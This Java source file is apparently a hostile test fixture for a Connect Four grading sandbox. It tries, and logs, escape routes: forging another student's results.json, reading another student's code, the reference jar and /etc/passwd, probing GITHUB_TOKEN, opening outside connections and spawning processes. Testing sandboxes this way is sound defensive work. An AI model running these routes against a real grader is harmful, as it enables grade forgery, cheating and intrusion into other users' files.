package tabuleiro.connectfour;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipFile;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/sandbox-escape): every way out of the
 * grading JVM that needs no other package, tried once per JVM. What gets through is listed in
 * an exception whose message starts "ESCAPED:", so that it shows in the student's feedback and
 * the instructor's report; each route is also noted in {@code hostile-routes.txt} in the
 * scratch folder.
 */
final class Escape {

    static final String OTHER = "@OTHER_NAME@";
    static final String PORT = "@PORT@";
    static final String MARK = "tabuleiro-pwned by sandbox-escape";

    private static boolean tried;
    private static List<String> escaped = List.of();

    private Escape() {
    }

    static synchronized void tryAll() {
        if (!tried) {
            tried = true;
            escaped = routes();
        }
        if (!escaped.isEmpty()) {
            throw new IllegalStateException("ESCAPED: " + String.join("; ", escaped));
        }
    }

    private static List<String> routes() {
        List<String> out = new ArrayList<>();
        Path scratch = Path.of(System.getProperty("java.io.tmpdir")).toAbsolutePath();
        Path student = scratch.getParent().getParent().getParent();
        Path reports = student.getParent();
        Path other = reports.resolve(OTHER);
        String forged = "{\"score\": 0.0, \"output\": \"" + MARK + "\", \"tests\": []}\n";
        write(out, "another student's results.json", other.resolve("results.json"), forged);
        write(out, "the class's report folder", reports.resolve("tabuleiro-pwned.txt"), MARK);
        write(out, "the home folder", Path.of(System.getProperty("user.home"),
                "tabuleiro-pwned"), MARK);
        try {
            String home = System.getenv("HOME");
            if (home != null) {
                write(out, "$HOME", Path.of(home, "tabuleiro-pwned"), MARK);
            }
        } catch (RuntimeException e) {
            note("read $HOME", "REFUSED", e.toString());
        }
        write(out, "/tmp", Path.of("/tmp/tabuleiro-pwned"), MARK);
        read(out, "another student's sources", other.resolve(
                "work/src/tabuleiro/connectfour/Game.java"));
        read(out, "/etc/passwd", Path.of("/etc/passwd"));
        jars(out);
        connect(out, "the test's listener on 127.0.0.1", "127.0.0.1", PORT);
        connect(out, "a public address (1.1.1.1:443)", "1.1.1.1", "443");
        try {
            InetAddress address = InetAddress.getByName("example.com");
            out.add("resolved example.com to " + address.getHostAddress());
            note("resolve a name (DNS)", "OK", address.toString());
        } catch (IOException | RuntimeException e) {
            note("resolve a name (DNS)", "REFUSED", e.toString());
        }
        try {
            for (String name : List.of("HOME", "USER", "GITHUB_TOKEN", "JAVA_HOME")) {
                String value = System.getenv(name);
                note("environment variable " + name, value == null ? "FAILED" : "OK",
                        value == null ? "not set" : value.length() + " characters");
            }
        } catch (RuntimeException e) {
            note("read the environment", "REFUSED", e.toString());
        }
        try {
            out.addAll(Spawner.spawn());
        } catch (LinkageError | RuntimeException e) {
            note("start a process", "REFUSED", e.toString());
        }
        return out;
    }

    private static void write(List<String> out, String what, Path file, String text) {
        try {
            Files.writeString(file, text, StandardCharsets.UTF_8, StandardOpenOption.CREATE,
                    StandardOpenOption.TRUNCATE_EXISTING, StandardOpenOption.WRITE);
            out.add("wrote " + what + " (" + file + ")");
            note("write " + what, "OK", file.toString());
        } catch (IOException | RuntimeException e) {
            note("write " + what, "REFUSED", e.toString());
        }
    }

    private static void read(List<String> out, String what, Path file) {
        try {
            byte[] bytes = Files.readAllBytes(file);
            out.add("read " + what + " (" + bytes.length + " bytes)");
            note("read " + what, "OK", file + ", " + bytes.length + " bytes");
        } catch (IOException | RuntimeException e) {
            note("read " + what, "REFUSED", e.toString());
        }
    }

    /**
     * The grader's jar and the jars beside it. The grader's jar is on the class path, so the JVM
     * reads it by design: that is noted, not counted; the reference's jar is counted.
     */
    private static void jars(List<String> out) {
        String first = System.getProperty("java.class.path", "").split(
                java.io.File.pathSeparator)[0];
        Path jar = Path.of(first);
        try (ZipFile zip = new ZipFile(jar.toFile())) {
            long schemes = zip.stream().filter(entry -> entry.getName().endsWith(".json"))
                    .count();
            note("read the grader's jar", "OK", jar + ": " + zip.size() + " entries, "
                    + schemes + " JSON files");
        } catch (IOException | RuntimeException e) {
            note("read the grader's jar", "REFUSED", e.toString());
        }
        Path lib = jar.toAbsolutePath().getParent().resolve("lib");
        try (Stream<Path> files = Files.list(lib)) {
            for (Path file : files.filter(f -> f.getFileName().toString()
                    .startsWith("tabuleiro-reference")).toList()) {
                read(out, "the reference's jar", file);
            }
        } catch (IOException | RuntimeException e) {
            note("list the grader's lib folder", "REFUSED", e.toString());
        }
    }

    private static void connect(List<String> out, String what, String host, String port) {
        if (!port.matches("\\d+")) {
            note("connect to " + what, "FAILED", "no port filled in");
            return;
        }
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, Integer.parseInt(port)), 1000);
            out.add("connected to " + what);
            note("connect to " + what, "OK", host + ":" + port);
        } catch (IOException | RuntimeException e) {
            note("connect to " + what, "REFUSED", e.toString());
        }
    }

    /** Appends a line to the route log in the scratch folder. */
    static void note(String route, String outcome, String detail) {
        try {
            Path log = Path.of(System.getProperty("java.io.tmpdir"), "hostile-routes.txt");
            Files.writeString(log, "ROUTE\t" + route + "\t" + outcome + "\t"
                    + detail.replace('\n', ' ').replace('\t', ' ') + "\n",
                    StandardCharsets.UTF_8, StandardOpenOption.CREATE,
                    StandardOpenOption.APPEND);
        } catch (IOException | RuntimeException e) {
            // The route log is only for whoever studies the attack.
        }
    }
}
